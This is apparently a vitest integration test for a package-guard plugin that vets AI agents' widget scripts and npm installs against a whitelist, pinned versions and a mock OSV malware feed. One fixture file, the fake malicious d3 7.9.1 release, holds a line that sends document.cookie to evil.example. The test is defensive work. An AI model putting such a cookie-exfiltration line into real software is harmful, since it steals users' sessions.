import { createHash, randomUUID } from "node:crypto";
import { readdir, readFile, stat } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditRecord } from "../../src/audit/log.js";
import type { GatewayClient } from "../helpers/gateway-client.js";
import { startGateway, type Gateway } from "../helpers/gateway.js";
import {
  messageText,
  mockModelConfig,
  startMockModel,
  toolResultsSinceUser,
  toolThenText,
  type MockModel,
} from "../helpers/mock-model.js";
import { startNpmRegistry, type NpmRegistry } from "../helpers/npm-registry.js";
import { startOsvServer, type OsvRecord, type OsvServer } from "../helpers/osv-server.js";

// One real gateway: a WS operator client that declares `inline-widgets` sends chat.send, the loopback mock model
// answers with a show_widget call, and the plugin's before_tool_call gate decides it against a loopback npm registry.
const D3_FILE = "!function(){window.d3={version:'7.9.0',select(){return this}}}();\n";
// The SRI a browser checks, computed here from the bytes the registry serves (not by the code under test).
const D3_SRI = `sha384-${createHash("sha384").update(D3_FILE).digest("base64")}`;
// A later d3 release the loopback OSV API knows as malware: an OpenSSF malicious-packages (MAL-) record.
const MALICIOUS_D3 = "7.9.1";
const MAL_RECORD: OsvRecord = {
  id: "MAL-2099-8",
  summary: "Malicious code in d3 7.9.1 (test fixture)",
  affected: [
    {
      package: { ecosystem: "npm", name: "d3" },
      ranges: [{ type: "SEMVER", events: [{ introduced: MALICIOUS_D3 }, { fixed: "7.9.2" }] }],
    },
  ],
};
const JSDELIVR = "https://cdn.jsdelivr.net/npm";
const SHOW_WIDGET_ID = "openclaw:core:show_widget";
const FONT = "https://fonts.googleapis.com/css2?family=Inter";
const widget = (src: string): string =>
  `<div id="chart">Loading</div>\n<script src="${src}"></script>\n<script>d3.select("#chart")</script>`;
const FONT_AS_WRITTEN = "HTTPS://FONTS.GOOGLEAPIS.COM/css2?family=Inter";
const TURNS = {
  // The agent's spelling of the host; the gate rewrites the tag to the URL it checked.
  fonts: `<link rel="stylesheet" href="${FONT_AS_WRITTEN}"><p style="font-family: Inter">Hello</p>`,
  latest: widget(`${JSDELIVR}/d3@latest/dist/d3.min.js`),
  unlisted: widget(`${JSDELIVR}/left-pad@1.3.0/index.js`),
  loader:
    `<div id="c"></div><script>const s = document.createElement("script"); s.src = u; document.head.append(s)` +
    "</script>",
  pinned: widget(`${JSDELIVR}/d3@7.9.0/dist/d3.min.js`),
  malicious: widget(`${JSDELIVR}/d3@${MALICIOUS_D3}/dist/d3.min.js`),
} as const;

let registry: NpmRegistry;
let osv: OsvServer;
let model: MockModel;
let gateway: Gateway;
let client: GatewayClient;

beforeAll(async () => {
  registry = await startNpmRegistry({
    packages: [
      { name: "d3", version: "7.9.0", files: { "dist/d3.min.js": D3_FILE } },
      {
        name: "d3",
        version: MALICIOUS_D3,
        files: { "dist/d3.min.js": "fetch('https://evil.example/'+document.cookie)\n" },
      },
      { name: "left-pad", version: "1.3.0" },
    ],
  });
  osv = await startOsvServer([MAL_RECORD]);
  model = await startMockModel(
    toolThenText(
      Object.fromEntries(
        Object.entries(TURNS).map(([key, code]) => [
          key,
          // Tool Search is on by default: models reach show_widget through the tool_call meta-tool.
          [
            {
              name: "tool_call",
              arguments: { id: SHOW_WIDGET_ID, args: { title: `Widget ${key}`, widget_code: code } },
            },
          ],
        ]),
      ),
    ),
  );
  gateway = await startGateway({
    agents: ["main"],
    pluginConfig: {
      // d3 is listed for intern agents (the agent's maturity), with a range holding both the clean and the bad release.
      agents: { main: "intern" },
      whitelist: { tiers: { intern: [{ package: "d3", ecosystem: "npm", version: "^7.9.0", category: "charts" }] } },
      widgets: { registry: registry.url },
      // Component installs use the same registry and the same npm whitelist and scanner.
      npm: { registry: registry.url },
      scan: { osvApiUrl: osv.baseUrl },
    },
    extraConfig: mockModelConfig(model),
  });
  client = await gateway.connect(["operator.read", "operator.write"], { caps: ["inline-widgets"] });
});

afterAll(async () => {
  await gateway?.stop();
  await model?.close();
  await registry?.close();
  await osv?.close();
});

/** One chat turn from the inline-widgets client; resolves with the show_widget result the model was given. */
const turn = async (key: keyof typeof TURNS): Promise<string> => {
  const sent = await client.call<{ runId?: string }>("chat.send", {
    sessionKey: "agent:main:main",
    message: `run:${key}`,
    idempotencyKey: randomUUID(),
  });
  expect(sent).toMatchObject({ ok: true });
  await client.waitForEvent<{ state?: string; runId?: string }>(
    "chat",
    (p) =>
      (p.state === "final" || p.state === "error") &&
      (!sent.ok || !sent.payload.runId || p.runId === sent.payload.runId),
  );
  const answered = model.requests.findLast(
    (r) => toolResultsSinceUser(r).length > 0 && JSON.stringify(r.messages).includes(`run:${key}`),
  );
  expect(answered, `the model never saw a tool result for run:${key}`).toBeDefined();
  return toolResultsSinceUser(answered!).map(messageText).join("\n");
};

const widgetRecords = async (): Promise<AuditRecord[]> =>
  (await readFile(join(gateway.stateDir, "package-guard", "audit.jsonl"), "utf8"))
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l) as AuditRecord)
    .filter((r) => r.source === "widget");

const storedDocuments = async (): Promise<string[]> => {
  const root = join(gateway.stateDir, "canvas", "documents");
  const ids = await readdir(root).catch(() => [] as string[]);
  return Promise.all(ids.map((id) => readFile(join(root, id, "index.html"), "utf8").catch(() => "")));
};

describe("show_widget through the widget gate on a real gateway", () => {
  it("continues an allowed widget with the rewritten code: the stored canvas document holds our tag", async () => {
    const result = await turn("fonts");
    expect(result).not.toContain("package-guard refused");
    const documents = await storedDocuments();
    expect(
      documents.some((d) => d.includes(FONT_AS_WRITTEN)),
      "the agent's spelling was stored",
    ).toBe(false);
    expect(documents.some((d) => d.includes(`<link rel="stylesheet" href="${FONT}">`))).toBe(true);
  });

  it("blocks d3@latest with our reason, and stores no document for it", async () => {
    const before = (await storedDocuments()).length;
    const result = await turn("latest");
    expect(result).toContain("package-guard refused this widget");
    expect(result).toContain("d3@latest is not an exact version");
    expect(await storedDocuments()).toHaveLength(before);
  });

  it("blocks a library that is not on the whitelist", async () => {
    const result = await turn("unlisted");
    expect(result).toContain("[NOT_WHITELISTED]");
    expect(result).toContain("left-pad");
  });

  it("blocks an inline script that builds a <script> element", async () => {
    const result = await turn("loader");
    // The result reaches the model as JSON, quotes escaped.
    expect(result).toContain('createElement(\\"script\\"): write the <script> tag in widget_code');
  });

  it("allows d3@7.9.0, whitelisted at the agent's maturity, bound to the registry file's SRI hash", async () => {
    const result = await turn("pinned");
    expect(result).not.toContain("package-guard refused");
    const tag = `<script src="${JSDELIVR}/d3@7.9.0/dist/d3.min.js" integrity="${D3_SRI}" crossorigin="anonymous">`;
    expect((await storedDocuments()).some((d) => d.includes(tag))).toBe(true);
    // The version was scanned against the loopback OSV API (clean there).
    expect(osv.queries).toContainEqual({ package: { name: "d3", ecosystem: "npm" }, version: "7.9.0" });
  });

  it("blocks the same library at a version an OSV MAL- record names, with MALICIOUS", async () => {
    const before = (await storedDocuments()).length;
    const result = await turn("malicious");
    expect(result).toContain("package-guard refused this widget");
    expect(result).toContain("[MALICIOUS]");
    expect(result).toContain("MAL-2099-8");
    expect(await storedDocuments()).toHaveLength(before);
  });

  it("audits each decision with source widget", async () => {
    const records = await widgetRecords();
    expect(records.map((r) => [r.ecosystem, r.package, r.version, r.status, r.code])).toEqual([
      [null, null, null, "vetted", null],
      ["npm", "d3", null, "blocked", "INVALID_REQUIREMENT"],
      ["npm", "left-pad", "1.3.0", "blocked", "NOT_WHITELISTED"],
      [null, null, null, "blocked", "INVALID_REQUIREMENT"],
      ["npm", "d3", "7.9.0", "vetted", null],
      ["npm", "d3", MALICIOUS_D3, "blocked", "MALICIOUS"],
    ]);
    const [allowed, malicious] = records.slice(4);
    expect(allowed!.details).toMatchObject({
      purl: "pkg:npm/d3@7.9.0",
      widget: "allowed",
      files: [{ url: `${JSDELIVR}/d3@7.9.0/dist/d3.min.js`, integrity: D3_SRI }],
    });
    expect(malicious!.details).toMatchObject({ purl: `pkg:npm/d3@${MALICIOUS_D3}`, widget: "blocked" });
    expect(malicious!.reason).toContain("MAL-2099-8");
    expect(records.every((r) => r.agentId === "main" && r.client?.startsWith("show_widget"))).toBe(true);
  });
});

describe("npm component installs on the same gateway (the seed's npm API)", () => {
  const componentFile = (...path: string[]) =>
    join(gateway.stateDir, "package-guard", "components", "board", "node_modules", ...path);

  it("packages.install with the seed's fields installs d3 7.9.0 from the registry's bytes", async () => {
    const admin = await gateway.connect(["operator.read", "operator.write"]);
    try {
      const answer = await admin.call<{ ecosystem: string; version: string; component: string; purl: string }>(
        "packages.install",
        { package_name: "d3", version_constraint: "7.9.0", component_id: "board", agentId: "main" },
      );
      expect(answer.ok, JSON.stringify(answer)).toBe(true);
      expect(answer.ok && answer.payload).toMatchObject({ ecosystem: "npm", version: "7.9.0", component: "board" });
    } finally {
      admin.close();
    }
    expect(await readFile(componentFile("d3", "dist", "d3.min.js"), "utf8")).toBe(D3_FILE);
  });

  it("install_package refuses the malicious release for the agent, and the component keeps 7.9.0", async () => {
    const outcome = await gateway.invokeTool(
      "install_package",
      { ecosystem: "npm", package: "d3", version: MALICIOUS_D3, component: "board" },
      { agentId: "main" },
    );
    expect(JSON.stringify(outcome.body)).toContain("[MALICIOUS]");
    expect(JSON.stringify(outcome.body)).toContain("MAL-2099-8");
    expect(await readFile(componentFile("d3", "dist", "d3.min.js"), "utf8")).toBe(D3_FILE);
    expect((await stat(componentFile("d3", "package.json"))).isFile()).toBe(true);
    const records = (await readFile(join(gateway.stateDir, "package-guard", "audit.jsonl"), "utf8"))
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l) as AuditRecord)
      .filter((r) => r.ecosystem === "npm" && r.source !== "widget" && (r.status as string) !== "started");
    expect(records.map((r) => [r.source, r.status, r.package, r.code ?? null])).toEqual([
      ["rpc", "completed", "d3", null],
      ["tool", "blocked", "d3", "MALICIOUS"],
    ]);
  });
});
